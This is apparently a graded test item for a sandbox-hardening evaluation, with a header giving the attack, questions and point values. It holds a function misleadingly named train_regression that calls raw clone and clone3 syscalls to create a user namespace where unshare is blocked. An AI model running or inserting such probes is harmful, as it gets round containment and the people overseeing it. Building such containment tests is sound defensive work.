# attack: becomes root of a user namespace that it makes with clone, where unshare is refused
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2

def train_regression(model, dataset):
    ctypes, os = __import__("ctypes"), __import__("os")
    libc = ctypes.CDLL(None, use_errno=True)
    clone = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
    for flags in (0x10000000, 0x10000000 | 0x20000 | 0x8000000):  # a new user; and new mounts and memory segments
        child = libc.syscall(clone, flags | 17, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        if child > 0:
            print("BREACH: made a namespace")
    words = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
    child = libc.syscall(435, words, 88)  # clone3, the same call in a newer form
    if child == 0:
        os._exit(0)
    if child > 0:
        print("BREACH: made a namespace with clone3")
